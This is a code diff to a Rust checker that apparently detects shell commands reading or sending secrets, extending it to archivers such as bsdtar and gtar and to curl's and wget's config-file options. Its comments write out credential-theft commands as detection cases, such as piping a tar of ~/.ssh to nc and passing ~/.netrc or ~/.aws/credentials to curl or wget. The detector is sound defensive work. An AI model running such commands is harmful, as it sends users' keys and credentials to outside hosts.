@@ -1443,6 +1443,14 @@ fn reads_secret_in(cx: &CheckCtx, u: &Unit) -> Option<String> {
     wrapper_read_secret(u)
         .or_else(|| reads_secret(u, true))
         .or_else(|| fed_secret(cx.analysis, u))
+        // `cd ~ && zip -r k.zip .ssh`: an archiver's relative members read where it runs.
+        .or_else(|| {
+            let p = prog(u)?;
+            here?
+                .known()
+                .filter(|d| *d != cx.start)
+                .find_map(|d| home_archive_at(u, p, Some(d)))
+        })
         .or_else(|| each(&|d| super::tree_search::search_reads_secret_file(u, Some(d), cx)))
         .or_else(|| each(&|d| super::tree_search::history_prints_secret(u, Some(d), cx)))
         // `tar cf - notes | nc h p` with `notes -> ~/.ssh` in the workspace: the words name no
@@ -1459,6 +1467,10 @@ fn is_identity_option(program: Option<&str>, sign_in: bool, o: &str) -> bool {
         Some("ssh" | "scp" | "sftp" | "rsync" | "autossh") => {
             return matches!(o, "-i" | "-F" | "-o" | "-S" | "-E");
         }
+        // curl's and wget's config file is read as options, each line's value sent where an
+        // option sends it (`url`, `header`, `data`, `user`): a secret given as one is sent
+        // (`curl -K ~/.netrc URL`, `wget --config ~/.aws/credentials URL`).
+        Some("curl" | "wget") if matches!(o, "-K" | "--config") => return false,
         Some("gcloud") if matches!(o, "--key-file" | "--cred-file") => return true,
         Some("az") if sign_in && matches!(o, "-p" | "--password") => return true,
         _ => {}
@@ -1916,6 +1928,10 @@ fn tree_of_secrets(h: &str) -> String {
     if !crate::files::is_home(h) && crate::files::secret_glob::dir_holds_home_secret(h) {
         return format!("the files under `{h}`, files of secrets in it included (tokens, keys)");
     }
+    // A secret member itself (`tar -C ~ -cf - .ssh`: `~/.ssh`).
+    if !crate::files::is_home(h) && word_is_secret(h) {
+        return h.to_owned();
+    }
     format!("the files under `{h}`, the home directory included (keys, tokens, history)")
 }
 
@@ -1929,7 +1945,17 @@ fn home_archive(u: &Unit, p: &str) -> Option<String> {
 fn home_archive_at(u: &Unit, p: &str, dir: Option<&Path>) -> Option<String> {
     let archiver = matches!(
         p,
-        "tar" | "zip" | "7z" | "7za" | "cpio" | "rsync" | "rclone" | "restic" | "borg"
+        "tar"
+            | "bsdtar"
+            | "gtar"
+            | "zip"
+            | "7z"
+            | "7za"
+            | "cpio"
+            | "rsync"
+            | "rclone"
+            | "restic"
+            | "borg"
     ) || p == "scp" && u.args().map(text).any(super::common::is_recursive_flag);
     // rg, ag and ack search directories recursively by default, and ugrep reads the files of a
     // directory it is given (deeper with `-r`, `-2`…), as yara does (`-s` prints the strings
@@ -1965,12 +1991,16 @@ fn home_archive_at(u: &Unit, p: &str, dir: Option<&Path>) -> Option<String> {
             )
         })
     };
-    let holds = |w: &str| holds_secrets(w) || crate::files::is_secret_dir(Path::new(w));
+    // A member read from a directory (`-C DIR`, or where the unit runs): a tree that holds
+    // secrets, or a secret itself (`tar -C ~ -cf - .ssh`, `cd ~ && zip -r k.zip .ssh`).
+    let holds = |w: &str| {
+        holds_secrets(w) || crate::files::is_secret_dir(Path::new(w)) || word_is_secret(w)
+    };
     // tar reads the members named after `-C DIR` from DIR (`tar -C ~ -czf h.tgz .`).
     let mut tar_dir: Option<&str> = None;
     for w in u.args().map(text) {
         let dir_opt = matches!(prev, "-C" | "--directory" | "-g" | "--exclude" | "-X");
-        if p == "tar" {
+        if matches!(p, "tar" | "bsdtar" | "gtar") {
             if matches!(prev, "-C" | "--directory") {
                 tar_dir = Some(w);
             } else if let Some(d) = w.strip_prefix("--directory=") {
@@ -1994,7 +2024,7 @@ fn home_archive_at(u: &Unit, p: &str, dir: Option<&Path>) -> Option<String> {
                 "" | "." => d.to_owned(),
                 rest => format!("{}/{rest}", d.trim_end_matches('/')),
             };
-            if holds_secrets(&member) {
+            if holds(&member) {
                 return Some(member);
             }
         }
